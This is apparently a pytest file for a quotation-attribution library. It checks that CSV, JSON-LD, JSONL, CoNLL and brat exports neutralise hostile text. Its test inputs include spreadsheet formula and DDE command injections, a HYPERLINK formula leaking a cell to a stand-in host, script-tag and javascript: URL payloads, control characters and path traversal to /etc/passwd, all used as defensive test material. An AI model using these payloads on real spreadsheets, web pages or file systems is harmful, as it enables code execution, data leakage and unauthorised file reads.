"""What an article, its id or its speakers say is never more than text in what is written of it."""

import csv
import io
import json
import re

import pytest

from quoteattr.archive import annotate_files
from quoteattr.io import iter_conll, iter_csv, iter_jsonl, iter_web_annotations, read_web_annotations, write_brat
from quoteattr.types import Article, Mention, Quotation, Span, Speaker, Summary
from tests.archive.test_archive import StandIn

HOSTILE = [
    pytest.param(text, id=label)
    for label, text in {
        "formula": "=HYPERLINK(\"http://x.example?\"&A1,\"no\")",
        "command": "@SUM(1+1)*cmd|' /C calc'!A0",
        "plus": "+1+1",
        "minus": "-2+3+cmd|' /C calc'!D2",
        "tab": "\t=1+1",
        "line end": "\n=1+1\r\n@A",
        "wide": "＝1+1",
        "quote mark": '"\n"=1+1',
        "script": "</script><script>alert(1)</script><!--",
        "address": "javascript:alert(1)",
        "page": "data:text/html,<script>alert(1)</script>",
        "directions": "\u202e=1+1\u202c",
        "controls": "\x1b]0;x\x07\x00\x85",
        "upwards": "../../etc/passwd",
        "absolute": "/etc/passwd",
    }.items()
]  # fmt: skip


def hostile(text):
    """An article that says the same everywhere."""
    whole = Span(0, len(text))
    speaker = Speaker("s1", text, role=text, aliases=(text,), mentions=(Mention(0, len(text)),))
    said = Quotation(text, "direct", (whole,), (whole,), (whole,), speaker, 0.5)
    return Article(text, id=text, quotations=(said,), speakers=(speaker,), summary=Summary(text), warnings=(text,))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_any_column_acts(text):
    table = "".join(iter_csv([hostile(text), hostile(text)]))
    rows = list(csv.reader(io.StringIO(table, newline="")))
    assert len(rows) == 3, "no line end in a cell begins a row"
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_annotations_can_stand_in_a_page(text, tmp_path):
    article = hostile(text)
    written = "".join(iter_web_annotations([article]))
    assert "<" not in written
    [annotation] = json.loads(written)
    assert annotation["target"][0]["selector"][1]["exact"] == text
    for address in (annotation["id"], annotation["target"][0]["source"]):
        assert not re.match(r"\s*(?:javascript|data|vbscript):", address, re.IGNORECASE)
    (tmp_path / "out.jsonld").write_text(written, "utf-8", newline="")
    [back] = read_web_annotations(tmp_path / "out.jsonld", [(article.id, text)])
    assert [said.content_text for said in back.quotations] == [text]


@pytest.mark.parametrize("text", HOSTILE)
def test_an_article_stays_one_line_of_records_and_one_document_of_columns(text):
    articles = [hostile(text), hostile(text)]
    assert [json.loads(line)["id"] for line in "".join(iter_jsonl(articles)).split("\n")[:-1]] == [text, text]
    lines = "".join(iter_conll(articles)).split("\n")
    assert sum(line.startswith("# newdoc") for line in lines) == 2
    assert all(line.count("\t") == 6 for line in lines if line and not line.startswith("# "))


@pytest.mark.parametrize("text", HOSTILE)
def test_files_of_an_article_stay_in_their_folder(text, tmp_path):
    folder = tmp_path / "a" / "b"
    write_brat([hostile(text)], folder)
    assert sorted(path.relative_to(tmp_path).parts[0] for path in tmp_path.iterdir()) == ["a"]
    assert len(list(folder.iterdir())) == 3
    assert {path.parent for path in tmp_path.rglob("*") if path.is_file()} == {folder}


def test_output_is_where_it_was_asked_for_wherever_the_input_is(tmp_path, monkeypatch):
    place = tmp_path / "work"
    place.mkdir()
    (tmp_path / "up.jsonl").write_text('{"id": "../../x", "text": "Yes."}\n')
    (tmp_path / "absolute.txt").write_text("No.")
    monkeypatch.chdir(place)
    annotate_files(["../up.jsonl", tmp_path / "absolute.txt"], "out", pipeline=StandIn())
    visible = {str(path.relative_to(tmp_path)) for path in tmp_path.rglob("[!.]*") if path.is_file()}
    assert visible == {
        "absolute.txt",
        "up.jsonl",
        *(f"work/out/{n}" for n in ("absolute.jsonl", "run.json", "up.jsonl")),
    }
